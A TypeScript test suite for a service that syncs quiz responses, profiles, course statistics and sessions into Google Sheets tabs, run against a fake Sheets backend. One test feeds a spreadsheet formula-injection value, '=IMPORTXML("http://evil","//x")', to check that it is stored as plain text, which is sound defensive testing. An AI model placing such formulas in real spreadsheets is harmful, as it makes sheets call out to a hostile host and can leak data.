import { fakeSheets } from '@quiz-sync/testing';
import { describe, expect, it } from 'vitest';
import { answer, expectExact, keysOf, makeApplication, rowOf, TITLES } from './make-application.js';

describe('a sync run', () => {
  it('makes the tabs and writes every row, once', async () => {
    const app = makeApplication();
    await app.submit({
      submission_id: 's1',
      user_id: 'u1',
      responses: [answer(), answer({ quiz_id: 'q2', correct: false })],
    });
    await app.submit({ submission_id: 's2', user_id: 'u2', session_id: 'c1' });
    await app.drain();
    await expectExact(app, ['s1', 's2']);
    expect(keysOf(app.sheets, 'engagement')).toEqual(['c1']);
    expect((await app.quizSync.syncStatus())._unsafeUnwrap().state).toBe('in_sync');
  });

  it('takes two calls once the tabs are there, for any number of tabs and rows', async () => {
    const app = makeApplication();
    await app.quizSync.setUp();
    for (let index = 0; index < 40; index += 1) {
      await app.submit({ submission_id: `s${index}`, user_id: `u${index % 7}`, session_id: `c${index % 5}` });
    }
    const before = app.sheets.calls();
    await app.sync();
    const after = app.sheets.calls();
    expect([after.reads - before.reads, after.writes - before.writes]).toEqual([1, 1]);
    await app.submit({ submission_id: 'one-more', user_id: 'u1' });
    await app.sync();
    expect(app.sheets.calls()).toEqual({ reads: after.reads + 1, writes: after.writes + 1 });
    await expectExact(app, [...Array.from({ length: 40 }, (_, index) => `s${index}`), 'one-more']);
  });

  it('calls nobody when nothing is pending', async () => {
    const app = makeApplication();
    await app.submit({ user_id: 'u1' });
    await app.drain();
    const before = app.sheets.calls();
    expect(await app.sync()).toEqual({ type: 'done' });
    expect(app.sheets.calls()).toEqual(before);
  });

  it('writes only rows that changed', async () => {
    const app = makeApplication();
    await app.submit({ submission_id: 's1', user_id: 'u1' });
    await app.submit({ submission_id: 's2', user_id: 'u2' });
    await app.drain();
    await app.submit({ submission_id: 's3', user_id: 'u1', responses: [answer({ topic: 'Algebra' })] });
    await app.drain();
    const last = app.sheets.batches.at(-1)?.batch;
    const written = last?.changes.filter((change) => change.type === 'write_cells') ?? [];
    // The response, the profile and the new course; not the course that stayed as it was.
    expect(written.flatMap(({ rows }) => rows)).toHaveLength(3);
  });

  it('never clears, and moves the revision with every batch', async () => {
    const app = makeApplication();
    for (let index = 0; index < 3; index += 1) {
      await app.submit({ user_id: 'u1' });
      await app.drain();
    }
    const revisions = app.sheets.batches.map(({ batch }) => [batch.from, batch.to]);
    for (const [index, [from]] of revisions.entries()) expect(from).toBe(revisions[index - 1]?.[1] ?? null);
    expect(app.sheets.revision()).toBe(revisions.at(-1)?.[1]);
  });

  it('takes over a spreadsheet that people use already, beside whatever they have', async () => {
    const sheets = fakeSheets();
    sheets.people.addTab(7, 'QuizResponses');
    for (const [column, header] of ['notes', 'user_id', 'timestamp', 'quiz_id'].entries()) {
      sheets.people.typeCell('QuizResponses', 0, column, header);
    }
    sheets.people.typeCell('QuizResponses', 1, 0, 'an old note');
    sheets.people.typeCell('QuizResponses', 1, 1, 'somebody');
    const app = makeApplication({ sheets });
    await app.submit({ submission_id: 's1', user_id: 'u1' });
    await app.drain();
    await expectExact(app, ['s1']);
    expect(sheets.people.values('QuizResponses')[1]?.slice(0, 2)).toEqual(['an old note', 'somebody']);
    expect(rowOf(sheets, 'responses', 's1:0')).toMatchObject({
      user_id: 'u1',
      quiz_id: 'q1',
      topic_tag: 'Fractions',
    });
  });

  it('puts new columns to the right of notes that have no header', async () => {
    const sheets = fakeSheets();
    sheets.people.addTab(7, 'UserProfiles');
    sheets.people.typeCell('UserProfiles', 0, 0, 'first_name');
    sheets.people.typeCell('UserProfiles', 1, 3, 'a note without a header');
    const app = makeApplication({ sheets });
    await app.submit({ user_id: 'u1' });
    await app.drain();
    expect(sheets.people.values('UserProfiles')[0]?.slice(0, 5)).toEqual([
      'first_name',
      null,
      null,
      null,
      'last_name',
    ]);
    expect(sheets.people.values('UserProfiles')[1]?.[3]).toBe('a note without a header');
  });

  it('follows a course whose title changes: the old name goes, the new one comes', async () => {
    const app = makeApplication();
    await app.submit({
      submission_id: 's1',
      user_id: 'u1',
      responses: [answer({ course_id: 'alg', page_index: 1 })],
    });
    await app.drain();
    expect(keysOf(app.sheets, 'course_statistics')).toEqual(['u1/Fractions']);
    await app.quizSync.upsertCourse('alg', { title: 'Algebra', page_count: 12 });
    await app.drain();
    await expectExact(app, ['s1']);
    expect(keysOf(app.sheets, 'course_statistics')).toEqual(['u1/Algebra']);
    expect(rowOf(app.sheets, 'course_progress', 'u1/alg')).toMatchObject({
      course_name: 'Algebra',
      total_pages: 12,
    });
  });

  it('takes a cleaned-up session out of the sheet', async () => {
    const app = makeApplication();
    await app.quizSync.upsertSession('empty', { user_id: 'u1' });
    await app.quizSync.upsertSession('chat', { user_id: 'u1', messages_per_session: 3 });
    await app.drain();
    expect(keysOf(app.sheets, 'engagement').sort()).toEqual(['chat', 'empty']);
    app.clock.advance(31 * 86_400_000);
    const cleaned = await app.quizSync.cleanUpSessions({ olderThanMs: 30 * 86_400_000, dryRun: false });
    expect(cleaned._unsafeUnwrap().removed).toBe(1);
    await app.drain();
    expect(keysOf(app.sheets, 'engagement')).toEqual(['chat']);
  });

  it('writes text as data, whatever it looks like (fault 44)', async () => {
    const app = makeApplication();
    const explanation = '=IMPORTXML("http://evil","//x")';
    await app.submit({
      submission_id: '0012',
      user_id: '007',
      responses: [answer({ explanation, quiz_id: '1e3' })],
    });
    await app.drain();
    expect(rowOf(app.sheets, 'responses', '0012:0')).toMatchObject({
      user_id: '007',
      quiz_id: '1e3',
      explanation,
    });
  });

  it('says in the log what it did, in the words people search for', async () => {
    const app = makeApplication();
    await app.submit({ user_id: 'u1' });
    await app.submit({ user_id: 'u2' });
    await app.drain();
    const messages = app.log.entries.map(({ message }) => message);
    expect(messages).toContain('Background sync triggered for user u1 after quiz submission');
    expect(messages).toContain('Background sync successful: 2 user profiles synced to Google Sheets');
  });

  it('notes as whom it asked Google, for instances that have not asked yet', async () => {
    const { quizSync, submit, drain, store, sheets } = makeApplication();
    await submit({ user_id: 'u1' });
    await drain();
    expect((await store.syncState.read(sheets.target))._unsafeUnwrap().account).toBe('sync@example.org');
    expect((await quizSync.syncStatus())._unsafeUnwrap().account).toBe('sync@example.org');
  });

  it('warns of a failure once, however often it comes back', async () => {
    const app = makeApplication();
    app.sheets.faults.fail({ type: 'spreadsheet_not_found', message: '404' });
    await app.submit({ user_id: 'u1' });
    for (let attempt = 0; attempt < 3; attempt += 1) await app.sync();
    const warnings = app.log.entries.filter(({ level }) => level === 'warn');
    expect(warnings.map(({ message }) => message)).toEqual([
      expect.stringContaining('Background sync failed: '),
    ]);
  });

  it('plans everything afresh for another spreadsheet (fault 17)', async () => {
    const first = makeApplication();
    await first.submit({ submission_id: 's1', user_id: 'u1' });
    await first.drain();
    const second = makeApplication({
      store: first.store,
      clock: first.clock,
      sheets: fakeSheets({ target: 'other' }),
    });
    await second.drain();
    await expectExact(second, ['s1']);
  });

  it('compares every row again when settings change, and writes those that differ', async () => {
    const first = makeApplication();
    await first.submit({ submission_id: 's1', user_id: 'u1', responses: [answer({ topic: 'fractions-1' })] });
    await first.drain();
    const settings = { topicCourses: { 'fractions-1': 'Fractions' } };
    const second = makeApplication({
      store: first.store,
      clock: first.clock,
      sheets: first.sheets,
      settings,
    });
    await second.drain();
    expect(keysOf(second.sheets, 'course_statistics')).toEqual(['u1/Fractions']);
    await expectExact(second, ['s1']);
  });

  it('writes times again when people change the zone of the spreadsheet', async () => {
    const app = makeApplication();
    await app.submit({ submission_id: 's1', user_id: 'u1', submitted_at: '2026-03-01T23:30:00Z' });
    await app.drain();
    const berlin = rowOf(app.sheets, 'responses', 's1:0')['timestamp'];
    const tokyo = fakeSheets({ target: app.sheets.target, timeZone: 'Asia/Tokyo' });
    const moved = makeApplication({ store: app.store, clock: app.clock, sheets: tokyo });
    await moved.submit({ submission_id: 's2', user_id: 'u1' });
    await moved.drain();
    await expectExact(moved, ['s1', 's2']);
    const inTokyo = rowOf(tokyo, 'responses', 's1:0')['timestamp'];
    expect(Number(inTokyo) - Number(berlin)).toBeCloseTo(8 / 24, 6);
  });

  it('splits large work into batches and finishes it (fault 30)', async () => {
    const app = makeApplication();
    await app.quizSync.setUp();
    const ids: string[] = [];
    for (let index = 0; index < 30; index += 1) {
      ids.push(`s${index}`);
      const responses = Array.from({ length: 200 }, (_, n) =>
        answer({ quiz_id: `q${n}`, explanation: 'because '.repeat(40) }),
      );
      await app.submit({ submission_id: `s${index}`, user_id: `u${index % 3}`, responses });
    }
    await app.drain();
    expect(app.sheets.batches.length).toBeGreaterThan(2);
    expect(keysOf(app.sheets, 'responses')).toHaveLength(6_000);
    await expectExact(app, ids);
  });
});

describe('a submission', () => {
  it('asks Google nothing, and is stored while every call fails', async () => {
    const app = makeApplication();
    app.sheets.faults.fail({ type: 'unavailable', message: 'down' });
    await app.submit({ submission_id: 's1', user_id: 'u1' });
    expect(app.sheets.calls()).toEqual({ reads: 0, writes: 0 });
    await app.sync();
    await app.submit({ submission_id: 's2', user_id: 'u1' });
    app.sheets.faults.recover();
    await app.drain();
    await expectExact(app, ['s1', 's2']);
  });
});

describe('setting up', () => {
  it('makes tabs with bold, frozen headers, formats, a hidden key column and warnings, once', async () => {
    const app = makeApplication();
    const report = (await app.quizSync.setUp())._unsafeUnwrap();
    expect(report.tabs.map(({ title, created }) => [title, created])).toEqual(
      Object.values(TITLES).map((title) => [title, true]),
    );
    const again = (await app.quizSync.setUp())._unsafeUnwrap();
    expect(again.tabs.every(({ created, columns_added }) => !created && columns_added.length === 0)).toBe(
      true,
    );
    const changing = app.sheets.batches.filter(({ batch }) => batch.changes.length > 0);
    expect(changing).toHaveLength(1);
    expect([report.revision, again.revision]).toEqual(['honoured', 'honoured']);
  });

  it('writes no rows', async () => {
    const app = makeApplication();
    await app.submit({ user_id: 'u1' });
    await app.quizSync.setUp();
    expect(keysOf(app.sheets, 'responses')).toEqual([]);
  });
});
